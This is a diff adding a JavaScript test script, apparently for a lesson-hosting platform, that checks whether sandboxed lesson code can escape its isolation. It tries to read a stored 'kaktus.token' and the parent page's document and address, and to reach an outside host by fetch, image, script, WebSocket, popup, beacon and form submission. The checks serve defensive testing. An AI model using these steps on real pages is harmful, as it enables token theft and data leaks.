@@ -1,0 +1,53 @@
+// Tries everything that a lesson must not be able to do, and returns what came of it.
+window.attack = async function (other, stranger) {
+  const found = {};
+  async function attempt(name, work) {
+    try {
+      found[name] = String(await work());
+    } catch {
+      found[name] = 'refused';
+    }
+  }
+  const loaded = (element, start) =>
+    new Promise((resolve, reject) => {
+      element.onload = element.onopen = resolve;
+      element.onerror = reject;
+      start?.(element);
+    });
+  const status = async (address) => (await fetch(address)).status;
+
+  await attempt('token', () => localStorage.getItem('kaktus.token'));
+  await attempt('token of the page', () => top.localStorage.getItem('kaktus.token'));
+  await attempt('document of the page', () => top.document.title);
+  await attempt('document of the parent', () => parent.document.title);
+  await attempt('address of the page', () => top.location.href);
+  await attempt('database', () => indexedDB.open('x'));
+  await attempt('storage of a frame', async () => {
+    const frame = document.createElement('iframe');
+    frame.srcdoc = '<p>x</p>';
+    await loaded(frame, () => document.body.append(frame));
+    return frame.contentWindow.localStorage.length;
+  });
+  await attempt('another lesson', () => status(other));
+  await attempt('the API', () => status('/api/openapi.json'));
+  await attempt('a page of the library', () => status('/'));
+  await attempt('another host', () => status(`${stranger}/fetch`));
+  await attempt('by a picture', () => loaded(new Image(), (image) => (image.src = `${stranger}/p`)));
+  await attempt('by a script', () =>
+    loaded(document.createElement('script'), (script) => {
+      script.src = `${stranger}/s.js`;
+      document.head.append(script);
+    }),
+  );
+  await attempt('by a socket', () => loaded(new WebSocket(stranger.replace('http', 'ws'))));
+  await attempt('by a window', () => {
+    if (!open(`${stranger}/window`)) throw new Error('none');
+  });
+  await attempt('by the page itself', () => (top.location = `${stranger}/top`));
+  navigator.sendBeacon(`${stranger}/beacon`, 'x');
+  const form = document.createElement('form');
+  form.action = `${stranger}/form`;
+  document.body.append(form);
+  form.submit();
+  return found;
+};
